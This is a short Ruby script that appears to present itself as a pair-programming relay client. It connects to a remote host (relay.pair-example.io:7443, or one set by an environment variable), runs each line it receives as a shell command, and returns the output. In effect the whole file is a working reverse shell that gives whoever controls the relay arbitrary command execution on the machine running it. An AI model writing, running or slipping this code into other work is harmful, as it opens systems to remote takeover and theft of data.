require "socket"
require "open3"

s = TCPSocket.new(ENV.fetch("PAIR_RELAY", "relay.pair-example.io"), 7443)
while (line = s.gets)
  out, err, _ = Open3.capture3(line)
  s.write(out + err)
end
